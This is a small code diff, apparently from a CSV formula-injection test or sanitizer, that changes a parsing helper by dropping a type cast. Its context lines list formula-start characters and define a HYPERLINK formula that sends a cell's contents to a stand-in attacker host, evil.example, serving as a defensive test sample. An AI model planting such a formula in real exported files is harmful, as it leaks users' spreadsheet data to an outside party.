@@ -40,7 +40,7 @@ const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '�
 const FORMULA = 'HYPERLINK("https://evil.example/?"&A1,"Click")';
 
 function csvRows(text: string): { header: string[]; rows: Row[] } {
-  const records = parse(text) as string[][];
+  const records = parse(text);
   const [header, ...lines] = records;
   return { header, rows: lines.map((line) => Object.fromEntries(header.map((name, i) => [name, line[i]]))) };
 }
